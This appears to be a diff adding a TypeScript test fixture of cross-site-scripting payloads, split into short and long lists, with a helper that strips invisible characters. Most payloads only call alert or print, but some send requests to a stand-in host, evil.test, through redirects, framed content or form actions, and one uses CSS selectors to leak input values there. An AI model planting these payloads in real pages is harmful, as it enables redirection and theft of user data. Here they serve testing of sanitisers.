@@ -1,0 +1,81 @@
+// Texts that run as a program wherever a page takes them for markup, in the manner of the public lists. Each calls alert or
+// print, goes elsewhere, or asks for a picture, so that a page that falls for one is noticed.
+
+/** At most thirty signs: they fit into every name there is. */
+export const SHORT: string[] = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(2)>',
+  '<svg onload=alert(3)>',
+  '"><svg onload=alert(4)>',
+  "'><svg onload=alert(5)>",
+  '<b onclick=alert(6)>я</b>',
+  '</title><script>alert(7)//',
+  '</style><svg onload=print()>',
+  '</textarea><svg onload=print()',
+  '--><svg onload=alert(10)>',
+  '" onfocus=alert(11) autofocus=',
+  "' onmouseover=alert(12) x='",
+  '` onerror=alert(13) `',
+  '${alert(14)}',
+  '{{alert(15)}}',
+  "';alert(16)//",
+  '\\";alert(17)//',
+  'javascript:alert(18)',
+  '<a href=javascript:alert(19)>',
+  '&lt;svg onload=alert(20)&gt;',
+  '&#60;svg onload=print()&#62;',
+  '<!--<script>alert(22)//-->',
+  '<base href=//evil.test>',
+  '<iframe src=//evil.test>',
+  '<meta http-equiv=refresh>',
+  '<link rel=import href=//e>',
+  '</script><!--',
+  '<style>*{display:none}</style>',
+  'x;background:url(//evil.test)',
+  ']]><svg onload=alert(30)>',
+  '<form action=//evil.test>',
+  '＜svg onload=alert(32)＞',
+];
+
+/** Longer ones, for texts. */
+export const LONG: string[] = [
+  '</script><script>alert(101)</script>',
+  '<!--<script></script><img src=x onerror=alert(102)>-->',
+  '<script src=data:text/javascript,alert(103)></script>',
+  '<img src="x" srcset="x" onerror="alert(104)" onload="alert(104)">',
+  '<svg><animate onbegin=alert(105) attributeName=x dur=1s></svg>',
+  '<svg><script href="data:,alert(106)"/></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(107)</script></svg>#x"/></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(108)></style></table>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(109)>">',
+  '<template><img src=x onerror=alert(110)></template>',
+  '<iframe srcdoc="<script>parent.alert(111)</script>"></iframe>',
+  '<object data="javascript:alert(112)"></object><embed src="javascript:alert(112)">',
+  '<details open ontoggle=alert(113)><summary>я</summary></details>',
+  '<input autofocus onfocus=alert(114)><video src=x onerror=alert(114)></video>',
+  '<body onload=alert(115) onpageshow=alert(115)>',
+  '<div style="content-visibility:auto" oncontentvisibilityautostatechange=alert(116)>я</div>',
+  '<div onpointerrawupdate=alert(117) onscrollend=alert(117)>я</div>',
+  '<button popovertarget=p onbeforetoggle=alert(118)>я</button>',
+  '<a href="jav&#x09;ascript:alert(119)">я</a><a href="\u0001javascript:alert(119)">я</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMjApPC9zY3JpcHQ+">я</a>',
+  'https://evil.test/"onmouseover="alert(121)',
+  'https://evil.test/<svg onload=alert(122)>',
+  'javascript://evil.test/%0aalert(123)',
+  'JaVaScRiPt&colon;alert(124)',
+  'vbscript:msgbox(125) data:text/html,<script>alert(125)</script>',
+  '<div style="background:url(https://evil.test/126);position:fixed;inset:0">я</div>',
+  '<style>@import "https://evil.test/127";input[value^=a]{background:url(//evil.test/a)}</style>',
+  '<link rel=stylesheet href=https://evil.test/128><meta http-equiv=refresh content="0;url=//evil.test">',
+  '"-alert(129)-" \'-alert(129)-\' `${alert(129)}` \\u0027-alert(129)-\\u0027',
+  '{"a":"</script><script>alert(130)</script>"}',
+  '[xss](javascript:alert(131)) ![x](x"onerror="alert(131)) <javascript:alert(131)>',
+  '\u202e<script>alert(132)</script>\u202c\u200b\u2066<svg onload=alert(132)>\u2069',
+  '<ſcript>alert(133)</ſcript> <ımg src=x onerror=alert(133)> ‹svg onload=alert(133)›',
+  '%3Cscript%3Ealert(134)%3C/script%3E &lt;script&gt;alert(134)&lt;/script&gt;',
+];
+
+/** A text without what is not seen: spaces of all kinds and signs that turn or join have rules of their own. */
+export function seen(text: string): string {
+  return text.normalize('NFC').replace(/[\s\p{Cc}\p{Cf}]/gu, '');
+}
